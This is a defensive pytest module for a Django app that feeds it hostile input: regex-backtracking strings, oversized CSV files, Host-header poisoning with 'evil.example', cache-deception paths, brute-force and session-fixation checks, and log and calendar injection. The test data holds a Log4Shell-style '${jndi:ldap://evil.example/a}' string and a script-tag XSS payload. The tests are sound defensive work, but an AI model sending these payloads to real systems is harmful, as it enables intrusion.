"""Hostile input that no single room owns: files and forms beyond bounds, patterns that never end, sign-in by guessing,
caches, addresses and logs. What one room owns is tried there; docs/explanation/security.md says where."""

import importlib
import json
import logging
import pkgutil
import re
import time
from collections.abc import Iterator
from contextlib import suppress
from typing import Any

import pytest
from django.core import mail
from django.core.cache import cache
from hypothesis import given, settings
from hypothesis import strategies as st
from icalendar import Calendar

import twofold
from twofold.cycle.mapping.sheets import MOST
from twofold.demo import PASSWORD
from twofold.engines.sheets import FileError, table_of
from twofold.foundation.activities.models import Activity, State
from twofold.operations.watching import JsonLines
from twofold.testing.cast import House

LONG = 100_000
CRAFTED = [
    "a" * LONG + "!",
    "1," * (LONG // 2),
    " " * LONG + "x",
    "\n" * LONG + "x",
    "£" * LONG,
    "ab" * LONG,
    "0" * LONG,
]
KINDS_OF_TEXT = ["utf-8", "utf-8-sig", "utf-16", "cp1252"]


def patterns() -> Iterator[tuple[str, re.Pattern[Any]]]:
    """Every pattern of ours that a module holds."""
    for module in pkgutil.walk_packages(twofold.__path__, "twofold."):
        if ".tests" in module.name or ".migrations" in module.name or module.name.endswith("__main__"):
            continue
        for name, found in vars(importlib.import_module(module.name)).items():
            if isinstance(found, re.Pattern):
                yield f"{module.name}.{name}", found


def test_no_pattern_of_ours_takes_for_ever() -> None:
    """A pattern that backtracks needs hours for these; the bound is wide because machines are shared."""
    found = dict(patterns())
    assert len(found) >= 8
    for name, pattern in found.items():
        for text in CRAFTED:
            crafted: Any = text.encode() if isinstance(pattern.pattern, bytes) else text
            began = time.process_time()
            pattern.fullmatch(crafted)
            pattern.match(crafted)
            assert time.process_time() - began < 1.0, (name, text[:10])


@given(
    header=st.lists(st.sampled_from(["name", "service", "name ", "", "a;b", '"q"', "x" * 300]), max_size=70),
    cells=st.lists(st.lists(st.text(max_size=12), max_size=4), max_size=5),
    ends=st.sampled_from(["\n", "\r\n", "\r"]),
    between=st.sampled_from([",", ";", "\t"]),
    kind=st.sampled_from(KINDS_OF_TEXT),
)
@settings(max_examples=150, deadline=None)
def test_a_list_is_read_or_refused_with_its_line(
    header: list[str], cells: list[list[str]], ends: str, between: str, kind: str
) -> None:
    text = ends.join([between.join(header), *(between.join(row) for row in cells)])
    try:
        columns, rows = table_of(text.encode(kind, "replace"), "list.csv", MOST)
    except FileError:
        pass
    else:
        assert rows
        assert len(set(columns)) == len(columns) <= 60
        assert all(set(row["cells"]) <= set(columns) for row in rows)


@given(content=st.binary(max_size=300))
@settings(max_examples=150, deadline=None)
def test_a_file_of_anything_is_read_or_refused(content: bytes) -> None:
    with suppress(FileError):
        table_of(content, "list.csv", MOST)


@pytest.mark.parametrize(
    "content",
    [
        b"name,service\n" + b"x" * 200_000 + b",Bins\n",
        b"name,service\n" + b'"' + b"x\n" * 100_000,
        b"name,service\n" + b"a,Bins\n" * 6_000,
        b",".join(b"c%d" % n for n in range(5_000)) + b"\nx\n",
        b"PK\x03\x04" + b"\0" * 2_000,
    ],
    ids=["a cell of 200,000", "a quote that never closes", "too many rows", "too many columns", "a workbook"],
)
def test_a_list_beyond_bounds_is_refused_soon(content: bytes) -> None:
    began = time.process_time()
    with pytest.raises(FileError):
        table_of(content, "list.csv", MOST)
    assert time.process_time() - began < 2.0


def test_a_form_of_ten_thousand_fields_is_refused(house: House) -> None:
    form = f"do/places.add_service/{house.place.pk}/"
    answer = house.client("olu").post(house.address(form), {f"field{n}": "x" for n in range(10_000)})
    assert answer.status_code == 400


@pytest.mark.parametrize("header", ["X-HTTP-Method-Override", "X-Method-Override", "X-HTTP-Method"])
def test_a_header_makes_no_reading_into_a_writing(house: House, header: str) -> None:
    before = house.entries()
    address = f"/api/v1/places/larkmoor/actions/places.add_service/{house.place.pk}"
    assert house.client("olu").get(address, headers={header: "POST"}).status_code in {404, 405}
    assert house.entries() == before


def test_an_address_somebody_else_sent_is_never_repeated(house: House) -> None:
    """Or one visitor's letter or cached page would lead the next one astray."""
    for headers in ({"X-Forwarded-Host": "evil.example"}, {"X-Forwarded-Port": "666"}, {"X-Original-URL": "/evil/"}):
        for path in ("/", "/larkmoor/", "/accounts/login/", "/api/v1/places/larkmoor/services"):
            answer = house.client().get(path, headers=headers)
            assert b"evil" not in answer.content
            assert b":666" not in answer.content
    assert house.client().get("/", headers={"Host": "evil.example"}).status_code == 400
    mail.outbox = []
    house.client().post(
        "/accounts/password/reset/", {"email": "rosa@larkmoor.example"}, headers={"X-Forwarded-Host": "evil.example"}
    )
    assert mail.outbox
    assert all("evil" not in letter.body for letter in mail.outbox)


@pytest.mark.parametrize("path", ["/my-page/", "/my-page/everything/", "/larkmoor/workspace/", "/larkmoor/letters/"])
def test_what_is_for_one_person_is_kept_by_no_cache(house: House, path: str) -> None:
    for dressed_up in (path, f"{path}picture.css", f"{path.rstrip('/')}.css", f"{path};x.css"):
        answer = house.client("olu").get(dressed_up)
        assert (
            answer.status_code == 404 or "no-store" in answer["Cache-Control"] or "private" in answer["Cache-Control"]
        )


def test_nobody_learns_by_guessing_who_has_an_account(house: House) -> None:
    answers = {}
    for email in ("rosa@larkmoor.example", "nobody@larkmoor.example"):
        cache.clear()
        client = house.client()
        wrong = client.post("/accounts/login/", {"login": email, "password": "wrong"}, follow=True)
        asked = client.post("/accounts/password/reset/", {"email": email}, follow=True)
        token = re.compile(r'(?:csrfmiddlewaretoken" value|nonce)="[^"]*"')
        answers[email] = [
            (page.status_code, token.sub("", page.content.decode()).replace(email, "")) for page in (wrong, asked)
        ]
    first, second = answers.values()
    assert first == second


def test_guessing_a_password_is_stopped_and_locks_nobody_else_out(house: House) -> None:
    cache.clear()
    client = house.client()
    guess = {"login": "rosa@larkmoor.example", "password": "wrong"}
    said = [client.post("/accounts/login/", guess) for _ in range(12)]
    right = client.post("/accounts/login/", {**guess, "password": PASSWORD})
    assert right.status_code in {200, 429}, "after so many wrong ones even the right one waits"
    assert "_auth_user_id" not in client.session
    assert said[0].content != said[-1].content
    other = house.client()
    assert other.post("/accounts/login/", {"login": "olu@larkmoor.example", "password": PASSWORD}).status_code == 302


def test_signing_in_changes_the_session_so_that_one_planted_is_worth_nothing(house: House) -> None:
    cache.clear()
    client = house.client()
    client.get("/accounts/login/")
    session = client.session
    session["planted"] = True
    session.save()
    before = session.session_key
    client.cookies["sessionid"] = before
    client.post("/accounts/login/", {"login": "callum@larkmoor.example", "password": PASSWORD})
    assert client.session.get("_auth_user_id")
    assert client.session.session_key != before


@pytest.mark.parametrize("said", ["one\r\ntwo", "\x1b[31mred\x1b[0m", "${jndi:ldap://evil.example/a}", "x" * 5_000_000])
def test_one_line_in_the_log_stays_one_line(said: str) -> None:
    record = logging.LogRecord("twofold", logging.WARNING, "file", 1, "Not found: %s", (said,), None)
    line = JsonLines().format(record)
    assert "\n" not in line
    assert "\x1b" not in line
    assert json.loads(line)
    assert len(line) < 10_000


def test_words_of_others_are_text_in_a_calendar(house: House) -> None:
    with house.tampering():
        activity = Activity.objects.filter(state=State.LIVE).order_by("pk")[0]
        activity.title = "Bins;BEGIN:VEVENT,\\n<script>alert(1)</script>"
        activity.save(update_fields=["title"])
    content = house.client().get("/api/v1/places/larkmoor/calendar.ics").content
    found = [str(event["SUMMARY"]) for event in Calendar.from_ical(content).walk("VEVENT")]
    stages = house.read(lambda: activity.stages.count())
    assert sum(activity.title in summary for summary in found) == stages
